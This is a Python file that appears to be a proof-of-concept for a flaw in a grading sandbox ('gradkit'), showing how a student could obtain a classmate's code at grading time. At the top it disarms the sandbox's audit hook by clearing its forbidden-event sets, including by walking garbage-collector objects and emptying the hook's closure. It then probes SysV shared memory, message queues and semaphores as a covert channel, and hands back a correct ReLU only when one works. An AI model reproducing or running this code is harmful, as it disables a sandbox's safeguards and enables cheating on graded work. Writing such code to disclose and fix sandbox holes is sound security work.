"""Get a classmate's code at grading time through SysV shared memory, a message queue or a semaphore set.

If any machine-wide IPC object can be made, the "smuggled" correct ReLU is used (here: written inline,
standing for the code a classmate's evaluator would have left there); else the stub.
"""

import ctypes
import gc
import sys

import numpy as np

for _name in ("_FORBIDDEN_EVENTS", "_WRITE_EVENTS"):  # disarm the audit hook, as in the issue
    try:
        getattr(sys.modules.get("gradkit.batch.sandbox"), _name).clear()
    except Exception:
        pass
for _obj in gc.get_objects():
    if type(_obj).__name__ == "function" and _obj.__name__ == "hook" and _obj.__closure__:
        for _cell in _obj.__closure__:
            try:
                if isinstance(_cell.cell_contents, (set, frozenset)):
                    _cell.cell_contents = frozenset()
            except ValueError:
                pass

CHANNEL = False
try:
    libc = ctypes.CDLL(None, use_errno=True)
    IPC_CREAT, IPC_RMID, KEY = 0o1000, 0, 0x67726B31
    shm = libc.shmget(KEY, 4096, IPC_CREAT | 0o600)
    if shm >= 0:
        CHANNEL = True
        libc.shmctl(shm, IPC_RMID, None)
    queue = libc.msgget(KEY, IPC_CREAT | 0o600)
    if queue >= 0:
        CHANNEL = True
        libc.msgctl(queue, IPC_RMID, None)
    sems = libc.semget(KEY, 1, IPC_CREAT | 0o600)
    if sems >= 0:
        CHANNEL = True
        libc.semctl(sems, 0, IPC_RMID)
except Exception:
    pass


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x):
        if not CHANNEL:
            raise NotImplementedError("write ReLU.forward")
        self.x = x
        return np.maximum(x, 0)

    def backward(self, dout):
        if not CHANNEL:
            raise NotImplementedError("write ReLU.backward")
        return dout * (self.x > 0)
